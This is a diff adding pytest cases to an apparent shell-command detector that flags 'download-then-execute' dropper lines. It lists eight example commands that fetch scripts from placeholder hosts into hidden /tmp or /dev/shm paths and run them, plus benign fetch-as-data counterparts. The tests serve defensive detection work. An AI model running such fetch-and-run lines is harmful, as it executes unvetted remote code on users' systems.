@@ -121,3 +121,44 @@ def test_escapes_left_as_written_where_the_shell_would_not_read_them_so():
                  r'echo "$(printf "\x63url")"', r"V=$(printf '\x63url'); $V x"):
         assert "curl x" not in runs(line), (line, runs(line))
     assert runs(r"printf '\143url\n' > notes.txt") == "printf > notes.txt"  # data stays data
+
+
+FETCH_THEN_RUN = [
+    # (line, what it fetches and runs): any download tool, behind wrappers and operators
+    ("timeout 5 lwp-download http://files.example.org/d/kw.sh /tmp/.kw.sh; chmod +x /tmp/.kw.sh; sh /tmp/.kw.sh",
+     ["/tmp/.kw.sh"]),
+    ("curl -s -o /dev/shm/.u.pyz http://files.example.org/u.pyz || busybox wget -q -O /dev/shm/.u.pyz "
+     "http://files.example.org/u.pyz; timeout 10 python3 /dev/shm/.u.pyz", ["/dev/shm/.u.pyz"]),
+    ("wget -q http://files.example.org/a/setup.sh && bash setup.sh", ["setup.sh"]),  # wget's default name
+    ("curl -fsSLo install.sh https://pkg.example.com/get.sh && sh install.sh", ["install.sh"]),  # a flag cluster
+    ("curl -sSfO https://pkg.example.com/i.sh && ./i.sh", ["./i.sh"]),
+    ("aria2c -d /tmp -o r.py http://files.example.org/r && nice python3 /tmp/r.py", ["/tmp/r.py"]),
+    ("curl https://files.example.org/env.sh -o env.sh; . env.sh", ["env.sh"]),
+    ("bash -c 'wget -O /tmp/x http://files.example.org/x; chmod +x /tmp/x; /tmp/x'", ["/tmp/x"]),
+]
+FETCHED_NOT_RUN = [
+    "curl -o data.json https://pkg.example.com/d.json && python3 parse.py data.json",  # data, read by a script
+    "curl -o a.sh https://pkg.example.com/a.sh; cat a.sh; sh -n a.sh",  # read, and checked for syntax only
+    "curl -O https://pkg.example.com/tool.tar.gz && tar xf tool.tar.gz",
+    "printf 'curl -o x https://pkg.example.com/x; sh x\\n' >> NOTES.md",  # the same line quoted as data
+    "curl -o out.sh https://pkg.example.com/a && python3 -c 'print(1)' out.sh",
+    "curl -H host:example.org -o page.html https://pkg.example.com/ && python3 -m http.server",
+]
+
+
+@pytest.mark.parametrize(("line", "paths"), FETCH_THEN_RUN)
+def test_a_file_fetched_then_run_is_read_the_way_the_shell_runs_it(line, paths):
+    """Whether or not the egress policy lets the fetch through, the line is a dropper: the rule reads
+    which file a download tool writes and whether a later command of the line runs it."""
+    from corral.detect.fetchrun import fetch_then_run
+
+    assert list(fetch_then_run(line)) == paths, runs(line)
+    assert "download-then-execute" in checked(line), runs(line)
+
+
+@pytest.mark.parametrize("line", FETCHED_NOT_RUN)
+def test_a_file_fetched_and_read_as_data_is_not_a_dropper(line):
+    from corral.detect.fetchrun import fetch_then_run
+
+    assert fetch_then_run(line) == (), runs(line)
+    assert "download-then-execute" not in checked(line), runs(line)
